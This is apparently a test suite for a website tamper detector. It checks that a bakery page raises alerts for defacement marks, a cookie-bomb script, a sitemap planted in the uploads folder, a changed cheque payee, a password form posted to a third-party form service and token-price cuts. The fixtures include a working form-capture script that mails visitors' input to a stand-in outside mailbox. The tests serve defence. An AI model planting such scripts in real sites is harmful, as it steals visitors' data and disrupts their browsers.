/**
 * The rules of round 16 (tuned on fresh15 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, ex, page, samples, URL_, verdictOf } from "../support/pages.js"

const script = (code: string) => `<script>${code}</script>`

describe("round 16: where only the site's own people look", () => {
  it("a signature printed to the developer console or put in the address bar alerts; an honest console note or clean-URL script does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: script(`console.log("%cOwned by Kr4ken","font-size:40px;color:red")`) })))).toContain("visible_text/signature")
    expect(breaches(verdictOf(page({ seed: 4, body: script(`history.replaceState(null,"","/kr4ken-was-here")`) })))).toContain("visible_text/signature")
    expect(breaches(verdictOf(page({ seed: 4, body: script(`location.hash="pwned_by_kr4ken"`) })))).toContain("visible_text/signature")
    expect(verdictOf(page({ seed: 4, body: script(`console.log("%cWe are hiring bakers! Write to jobs@harbour-bakery.example","color:#a60")`) })).alert).toBe(false)
    expect(verdictOf(page({ seed: 4, body: script(`if(location.search.indexOf("utm_")>=0)history.replaceState(null,"",location.pathname)`) })).alert).toBe(false)
  })

  it("a defacer's mark in a meta tag or hidden text alerts; a new generator or author tag does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="generator" content="Owned by Kr4ken">` })))).toContain("visible_text/signature")
    expect(breaches(verdictOf(page({ seed: 4, body: `<span hidden>Kr4ken was here</span>` })))).toContain("visible_text/signature")
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="copyright" content="Blaze | Balkan Cyber Team">` })))).toContain("visible_text/signature")
    expect(verdictOf(page({ seed: 4, head: `<meta name="generator" content="WordPress 6.5"><meta name="author" content="Mary Fisher">` })).alert).toBe(false)
    // (a hidden menu's headline about a hack is news, not a mark)
    expect(checks(verdictOf(page({ seed: 4, body: `<ul hidden><li><a href="/news/council-site-hacked">Council website hacked, payments paused</a></li></ul>` })))).not.toContain("visible_text/signature")
  })

  it("a sitemap in an upload folder or on another host beside new ownership tokens alerts; tokens and the site's own sitemap do not", () => {
    const token = `<meta name="google-site-verification" content="Zq81mPq0aXf2lB5c7tY3wU9nV4kR6sE1dH8gJ0oL2iM">`
    expect(breaches(verdictOf(page({ seed: 4, head: `${token}<link rel="sitemap" type="application/xml" href="/wp-content/uploads/2023/04/sitemap-brand.xml">` })))).toContain("destinations/sitemap_planted")
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="sitemap" type="application/xml" href="https://seo-pages.example.top/harbour/sitemap.xml">` })))).toContain("destinations/sitemap_planted")
    expect(verdictOf(page({ seed: 4, head: `${token}<link rel="sitemap" type="application/xml" href="/sitemap.xml">` })).alert).toBe(false)
  })
})

describe("round 16: what new scripts do", () => {
  it("cookies kilobytes long (a cookie bomb) alert; a consent tool deleting cookies in a loop does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: script(`for(var i=0;i<30;i++)document.cookie="c"+i+"="+"Q".repeat(3900)+";path=/"`) })))).toContain("destinations/script_floods_cookies")
    expect(checks(verdictOf(page({ seed: 4, body: script(`document.cookie.split(";").forEach(function(c){var n=c.split("=")[0].trim();if(/^_ga|^_fbp/.test(n))document.cookie=n+"=;expires=Thu, 01 Jan 1970 00:00:00 GMT;path=/"})`) })))).not.toContain("destinations/script_floods_cookies")
    // (a consent banner's long HTML template beside its consent cookie is no bomb)
    const template = `<div class="cc">${"We use cookies to run the shop and, with your consent, to count visits. ".repeat(40)}</div>`
    expect(checks(verdictOf(page({ seed: 4, body: script(`var t=${JSON.stringify(template)};document.body.insertAdjacentHTML("beforeend",t);document.cookie="cc=1;path=/;max-age=31536000"`) })))).not.toContain("destinations/script_floods_cookies")
  })

  it("a script mailing what visitors type to a mailbox of another domain alerts", () => {
    const code = `document.addEventListener("submit",function(e){var d={};[].forEach.call(e.target.elements,function(i){d[i.name]=i.value});emailjs.send("svc_1","tpl_1",{to:"orders.copy@mailbox.example.top",body:JSON.stringify(d)})},true)`
    expect(breaches(verdictOf(page({ seed: 4, body: script(code) })))).toContain("destinations/script_exfiltrates")
  })

  it("a script a consent manager holds back (type=text/plain) is a script of the page", () => {
    const f = ex.extract(page({ head: `<script type="text/plain" data-category="analytics" data-src="https://stats-cdn.example.top/s.js"></script>` }), URL_)
    expect(f.scripts).toContain("https://stats-cdn.example.top/s.js")
    expect(breaches(verdictOf(page({ seed: 4, head: `<script type="text/plain" data-cookieconsent="statistics">var s=document.createElement("script");s.src="https://stats-cdn.example.top/s.js";document.head.appendChild(s)</script>` })))).toContain("destinations/inline_script_new_domain")
  })
})

describe("round 16: where payments and messages go", () => {
  it("cheques payable to a stranger, or posted to a new box, alert; cheques payable to the bakery itself do not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Paying by cheque? Make cheques payable to “Alan Pryce” and send them to our office.</p>` })))).toContain("identifiers/payee_changed")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Cheques payable to Harbour Bakery Orders, PO Box 4471, Leeds LS1 9XX.</p>` })))).toContain("identifiers/payee_changed")
    expect(verdictOf(page({ seed: 4, body: `<p>Paying by cheque? Please make it payable to Harbour Bakery Ltd and write your order number on the back.</p>` })).alert).toBe(false)
  })

  it("a contact form posting to a form service is a sign; one asking for a password there alerts", () => {
    const fields = `<input name="name"><input type="email" name="email"><textarea name="message"></textarea>`
    const contact = verdictOf(page({ seed: 4, body: `<form action="https://formspree.io/f/xqkzlwpe" method="POST">${fields}<button>Send</button></form>` }))
    expect(contact.alert).toBe(false)
    expect(checks(contact)).toContain("destinations/form_service")
    expect(breaches(verdictOf(page({ seed: 4, body: `<form action="https://formspree.io/f/xqkzlwpe" method="POST"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>` })))).toContain("destinations/form_new_domain")
  })

  it("the page's prices cut to a token amount alert; a sale does not", () => {
    const menu = (a: string, b: string) => `<p>Sourdough loaf <span class="price">£${a}</span> · Lemon drizzle <span class="price">£${b}</span></p>`
    const base = baselineOf(samples((seed) => page({ seed, main: menu("4.50", "18.00") })))
    expect(breaches(verdictOf(page({ seed: 4, main: menu("4.50", "0.01") }), base))).toContain("identifiers/price_token")
    expect(verdictOf(page({ seed: 4, main: menu("3.60", "14.40") }), base).alert).toBe(false)
  })
})

describe("round 16: who signs new text", () => {
  it("new text signed with a crew of intruders' name alerts wherever it stands; one signed by the bakery's team does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<div class="msg"><p>Stop buying their products.</p><p>— Garuda Cyber Army</p></div>` })))).toContain("visible_text/signature")
    expect(checks(verdictOf(page({ seed: 4, body: `<div class="msg"><p>Thank you for a wonderful summer.</p><p>— The Harbour Bakery Team</p></div>` })))).not.toContain("visible_text/signature")
  })
})
